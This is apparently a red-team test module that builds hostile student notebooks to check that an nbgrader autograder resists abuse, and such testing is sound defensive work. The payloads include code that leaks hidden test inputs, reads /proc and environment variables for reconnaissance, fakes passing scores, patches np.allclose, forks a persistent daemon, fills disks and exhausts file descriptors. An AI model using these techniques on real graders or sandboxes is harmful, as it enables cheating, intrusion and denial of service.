"""Hostile submissions built as a student would: the real release notebook, answers filled, some cells replaced.

Each payload is code a student could paste into the solution cells of a release made by
``nbgrader generate_assignment``; :func:`filled` puts it there. The texts are kept here, apart from the
tests, so that ``docs/redteam.md`` can name them and anyone can rebuild a notebook to grade by hand::

    python -m tests.autograder.redteam.payloads OUT_DIR   # writes every payload notebook of a fresh course
"""

from __future__ import annotations

import copy
import re
import sys
from pathlib import Path

import nbformat

from tests.exercises.conftest import make_course, nbgrader

SOLUTION_MARK = re.compile(r"^\s*### (BEGIN|END) SOLUTION\s*$")
ASSIGNMENTS = ("rnn_cell", "crnn")


def build_course(root: Path) -> Path:
    """A copy of the project's course with the release of every assignment used here."""
    course = make_course(root, ASSIGNMENTS)
    for name in ASSIGNMENTS:
        out = nbgrader("generate_assignment", name, "--force", cwd=course)
        assert out.returncode == 0, out.stderr[-2000:]
    return course


def grade_id(cell) -> str | None:
    meta = cell.metadata.get("nbgrader")
    return meta.get("grade_id") if isinstance(meta, dict) else None


def solution(course: Path, assignment: str, gid: str) -> str:
    """The instructor's answer to cell ``gid``, as a student who solved it would have typed it."""
    src = nbformat.read(course / "source" / assignment / f"{assignment}.ipynb", as_version=4)
    text = next(c.source for c in src.cells if grade_id(c) == gid)
    return "\n".join(line for line in text.splitlines() if not SOLUTION_MARK.match(line)) + "\n"


def filled(course: Path, assignment: str, replace: dict[str, str] | None = None, edit=None) -> nbformat.NotebookNode:
    """The release with every answer cell solved, then cells ``replace`` rewritten and ``edit(nb)`` applied."""
    nb = nbformat.read(course / "release" / assignment / f"{assignment}.ipynb", as_version=4)
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution"):
            cell.source = solution(course, assignment, meta["grade_id"])
        if (replace or {}).get(grade_id(cell)) is not None:
            cell.source = replace[grade_id(cell)]
    if edit is not None:
        edit(nb)
    return nb


# ----------------------------------------------------------------------------- rnn_cell payloads
ZERO_BACKWARD = '''import numpy as np

def rnn_step_backward(dh, cache):
    x, h_prev, p = cache["x"], cache["h_prev"], cache["params"]
    return np.zeros_like(x), np.zeros_like(h_prev), {k: np.zeros_like(v) for k, v in p.items()}
'''

# Class 1 (purity): a forward that is right on the first call with some inputs and, on any later
# call with inputs within 1e-3 of them (a repeat or a perturbation), returns the first answer again:
# finite differences of this forward are zero, so an all-zero backward "agrees" with it.
STATEFUL_FORWARD = '''import numpy as np
_seen = []

def rnn_step(x, h_prev, params, activation="tanh"):
    for x0, h0 in _seen:
        if (x0.shape == x.shape and h0.shape == h_prev.shape and np.abs(x0 - x).max() < 1e-3
                and np.abs(h0 - h_prev).max() < 1e-3):
            a0 = x0 @ params["W_xh"] + h0 @ params["W_hh"] + params["b_h"]
            h = np.tanh(a0)
            return h, {"x": x, "h_prev": h_prev, "a": a0, "h": h, "activation": activation, "params": params}
    _seen.append((x.copy(), h_prev.copy()))
    a = x @ params["W_xh"] + h_prev @ params["W_hh"] + params["b_h"]
    h = np.tanh(a)
    return h, {"x": x, "h_prev": h_prev, "a": a, "h": h, "activation": activation, "params": params}
'''

# Class 10 (hidden means hidden): the student's own exception message carries the case's inputs.
LEAKING_FORWARD = '''import numpy as np

def rnn_step(x, h_prev, params, activation="tanh"):
    raise ValueError("LEAK:" + ",".join(f"{v:.17g}" for v in np.ravel(x)[:4]))
'''

# Class 10 again, after the fix that redacts exception text on hidden tests: the inputs written into
# returned *data* the checks quote. The cache's "activation" string and an extra key carry 8 digits of
# x[0, 0]; dx is an empty array whose shape (0, 7777, N) carries them; grads['W_xh'][0, 0] = 7000 + |x|.
LEAKING_DATA_FORWARD = '''import numpy as np

def rnn_step(x, h_prev, params, activation="tanh"):
    a = x @ params["W_xh"] + h_prev @ params["W_hh"] + params["b_h"]
    h = np.tanh(a)
    tag = "LEAK" + str(int(abs(float(x.flat[0])) * 1e8) % 10**8)
    return h, {"x": x, "h_prev": h_prev, "a": a, "h": h, "activation": tag, "params": params, tag: 0.0}
'''
LEAKING_DATA_BACKWARD = '''import numpy as np

def rnn_step_backward(dh, cache):
    x, h_prev, p = cache["x"], cache["h_prev"], cache["params"]
    da = dh * (1 - cache["h"] ** 2)
    grads = {"W_xh": x.T @ da, "W_hh": h_prev.T @ da, "b_h": da.sum(axis=0)}
    grads["W_xh"][0, 0] = 7000.0 + abs(float(x.flat[0]))
    return np.zeros((0, 7777, int(abs(float(x.flat[0])) * 1e8) % 10**8)), da @ p["W_hh"].T, grads
'''

# More data channels of the same class: a tuple of 7000 + 3 digits of |x[0, 0]| items (the count is
# quoted), and a gradient dict with an extra key "LEAK<8 digits>" (the keys are quoted).
LEAKING_COUNT_FORWARD = '''import numpy as np

def rnn_step(x, h_prev, params, activation="tanh"):
    return tuple([None] * (7000 + int(abs(float(x.flat[0])) * 1e3) % 1000))
'''
LEAKING_KEY_BACKWARD = '''import numpy as np

def rnn_step_backward(dh, cache):
    x, h_prev, p = cache["x"], cache["h_prev"], cache["params"]
    da = dh * (1 - cache["h"] ** 2)
    grads = {"W_xh": x.T @ da, "W_hh": h_prev.T @ da, "b_h": da.sum(axis=0)}
    grads["LEAK" + str(int(abs(float(x.flat[0])) * 1e8) % 10**8)] = np.zeros(1)
    return da @ p["W_xh"].T, da @ p["W_hh"].T, grads
'''

# Class 4 (what the sandbox sees) and a lying exception: the backward raises an exception whose
# __str__ claims success and whose text lists every host path or grader module it could find.
RECON_BACKWARD = r'''import json, os, sys

def _read(path, n=20000):
    try:
        with open(path, "rb") as f:
            return f.read(n).decode("utf-8", "replace")
    except OSError:
        return ""

_HOST_MARKS = ("/work/", "/root", "/var/tmp", "/usr/lib/python3", "site-packages", "dist-packages",
               ".venv", "pyenv", "/home/", "autograder-runtime")
_views = {"proc1": _read("/proc/1/cmdline").replace("\0", " "), "mountinfo": _read("/proc/self/mountinfo"),
          "mounts": _read("/proc/mounts"), "environ": " ".join(f"{k}={v}" for k, v in os.environ.items()),
          "sys.path": " ".join(sys.path), "executable": sys.executable, "cwd": os.getcwd()}
FOUND = sorted({f"{where}:{mark}" for where, text in _views.items() for mark in _HOST_MARKS
                if mark in text.replace("/home/student", "")})
for _name in ("IPython", "traitlets", "jinja2", "nbformat", "autograder", "simulator", "scipy", "torch"):
    try:
        __import__(_name)
        FOUND.append(f"import:{_name}")
    except Exception:
        pass

class AssertionError(Exception):  # noqa: A001 - the point: a name and a __str__ that lie
    def __str__(self):
        return "ok: rnn_step_backward matches the reference RECON:" + json.dumps(FOUND)

def rnn_step_backward(dh, cache):
    raise AssertionError()
'''

# Classes 3 and notebook metadata: a forward with the bias dropped (worth 0 of its 3 points), every
# test cell's points raised to 100, a "bonus" test cell worth 50 that passes, every test cell turned
# into a solution cell holding ``pass``, and an added cell claiming to be the locked ``setup`` cell
# that makes np.allclose and AssertionError harmless.
WRONG_FORWARD = '''import numpy as np

def rnn_step(x, h_prev, params, activation="tanh"):
    a = x @ params["W_xh"] + h_prev @ params["W_hh"]
    h = np.tanh(a)
    return h, {"x": x, "h_prev": h_prev, "a": a, "h": h, "activation": activation, "params": params}
'''
FAKE_SETUP = '''import numpy as np
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
'''


def metadata_games(nb: nbformat.NotebookNode) -> None:
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade") and cell.cell_type == "code":
            meta.update(points=100, grade=False, solution=True, locked=False)
            cell.source = "pass"
    bonus = nbformat.v4.new_code_cell("pass")
    bonus.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 50,
                                  "grade_id": "bonus", "schema_version": 3}
    nb.cells.append(bonus)
    at = next(k for k, c in enumerate(nb.cells) if grade_id(c) == "rnn_step")
    setup = nbformat.v4.new_code_cell(FAKE_SETUP)
    setup.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": True, "grade_id": "setup",
                                  "schema_version": 3}
    nb.cells.insert(at, setup)


# The sandbox abused while the code is right (the grade must stay 9/9): a daemon that detaches and
# should outlive the cell, every file descriptor taken, /tmp and the home filled, 300 MB printed with
# HTML in it, fake "ok:" lines and a fake JSON report on stdout.
DAEMON_MARK = "REDTEAM_DAEMON_MARK"
ABUSE = r'''
import json, os, sys
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", "import time\nwhile True: time.sleep(1)  # MARK"])
        os._exit(0)
except OSError:
    pass
for _d in ("/tmp", os.path.expanduser("~")):
    for _k in range(1000):
        try:
            with open(f"{_d}/fill{_k}", "wb") as _f:
                _f.write(b"x" * (8 << 20))
        except OSError:
            break
print(json.dumps({"score": 9.0, "max_score": 9.0, "tests": []}))
print("ok: rnn_step_backward matches the reference on 5 hidden cases")
for _ in range(100):
    sys.stdout.write("<script>alert(1)</script>" * 120000)
_keep = []
try:
    while True:
        _keep.append(open("/dev/null"))
except OSError:
    pass
'''.replace("MARK", DAEMON_MARK)


# The channel abused from inside a call: the worker's own Peer found with gc; on visible cases (B=2) a
# frame header that claims 4 GiB, on hidden ones (B=1 first) 20 000 small "call" frames of nothing.
CHANNEL_ABUSE = '''import gc, os, sys
import numpy as np

def rnn_step_backward(dh, cache):
    peer = next(o for o in gc.get_objects() if isinstance(o, sys.modules["channel"].Peer))
    if dh.shape[0] == 1:
        for _ in range(20000):
            peer.send({"op": "call"}, (0, (), {}))
    else:
        os.write(peer.wfd, b"RNNG" + b"\\xff\\xff\\xff\\xf0")
    x, h_prev, p = cache["x"], cache["h_prev"], cache["params"]
    return np.zeros_like(x), np.zeros_like(h_prev), {k: np.zeros_like(v) for k, v in p.items()}
'''


# ----------------------------------------------------------------------------- crnn payloads
# Class 1/7 beyond the cell checks: the training-run test scores what the student's crnn_forward
# returns on the training videos, never compared with a trusted value. Not a CRNN: the square's
# horizontal velocity read off the pixels; frame_features returns zeros, so both fail their own tests.
CRNN_PROBE_CHEAT = '''import numpy as np

def frame_features(frames, params):
    return np.zeros((frames.shape[0], params["dense1.W"].shape[1])), None

def crnn_forward(X, params, step):
    K = params["W_hy"].shape[1]
    img = np.clip(X[:, :, 0] - 0.5, 0, None)               # (B, T, S, S)
    cols = np.arange(img.shape[-1])
    cm = (img.sum(axis=2) * cols).sum(axis=2) / (img.sum(axis=(2, 3)) + 1e-9)  # (B, T)
    return np.tile((cm[:, -1] - cm[:, 0])[:, None], (1, K)), None
'''

# Class 6 beyond the guarded callables: a locked cell that runs in the grader computes on what the
# student returned. On the 80 test videos this crnn_forward returns a bool block of 32 MiB on the wire
# whose standardisation in train_readout makes float64 arrays 8 times as large in the grader.
AMPLIFY_BYTES = 32 << 20
CRNN_AMPLIFY = f'''import numpy as np

def crnn_forward(X, params, step):
    H = params["W_hy"].shape[0]
    if X.shape[0] == 80:
        return np.ones(({AMPLIFY_BYTES} // (80 * H), 80, H), dtype=bool), None
    return np.zeros((X.shape[0], H)), None
'''


OPTIONS = {"channel_abuse": ("--wall", "10")}  # grade options other than the defaults


def notebooks(course: Path) -> dict[str, tuple[str, nbformat.NotebookNode | bytes]]:
    """Every payload notebook: name -> (assignment, notebook or raw bytes)."""
    out = {
        "stateful_forward": ("rnn_cell", filled(course, "rnn_cell", {"rnn_step": STATEFUL_FORWARD,
                                                                      "rnn_step_backward": ZERO_BACKWARD})),
        "leak_and_recon": ("rnn_cell", filled(course, "rnn_cell", {"rnn_step": LEAKING_FORWARD,
                                                                    "rnn_step_backward": RECON_BACKWARD})),
        "leaking_data": ("rnn_cell", filled(course, "rnn_cell", {"rnn_step": LEAKING_DATA_FORWARD,
                                                                  "rnn_step_backward": LEAKING_DATA_BACKWARD})),
        "leaking_keys": ("rnn_cell", filled(course, "rnn_cell", {"rnn_step": LEAKING_COUNT_FORWARD,
                                                                  "rnn_step_backward": LEAKING_KEY_BACKWARD})),
        "metadata_games": ("rnn_cell", filled(course, "rnn_cell", {"rnn_step": WRONG_FORWARD}, metadata_games)),
        "sandbox_abuse": ("rnn_cell", filled(course, "rnn_cell", {
            "rnn_step_backward": solution(course, "rnn_cell", "rnn_step_backward") + ABUSE})),
        "channel_abuse": ("rnn_cell", filled(course, "rnn_cell", {"rnn_step_backward": CHANNEL_ABUSE})),
        "crnn_probe_cheat": ("crnn", filled(course, "crnn", {"frame_features": CRNN_PROBE_CHEAT,
                                                             "crnn_forward": "# in the cell above\n"})),
        "crnn_amplify": ("crnn", filled(course, "crnn", {"crnn_forward": CRNN_AMPLIFY})),
        "non_utf8": ("rnn_cell", b'{"cells": [], "metadata": {"x": "\xff\xfe\x80"}, "nbformat": 4, '
                                 b'"nbformat_minor": 5}'),
        "deep_json": ("rnn_cell", ('{"cells": [], "metadata": {"x": ' + "[" * 100000 + "]" * 100000
                                   + '}, "nbformat": 4, "nbformat_minor": 5}').encode()),
    }
    weird = copy.deepcopy(filled(course, "rnn_cell"))
    for cell in weird.cells:
        if grade_id(cell) == "rnn_step_backward":
            cell.metadata["nbgrader"] = "not a dict"
        elif grade_id(cell) == "test_rnn_step_visible":
            cell.metadata["nbgrader"]["grade_id"] = ["a", "list"]
    out["odd_metadata"] = ("rnn_cell", weird)
    return out


def write(path: Path, nb: nbformat.NotebookNode | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(nb, bytes):
        path.write_bytes(nb)
    else:
        nbformat.write(nb, path)
    return path


if __name__ == "__main__":
    target = Path(sys.argv[1]).resolve()
    course = build_course(target / "course")
    for name, (assignment, nb) in notebooks(course).items():
        print(assignment, write(target / f"{name}.ipynb", nb))
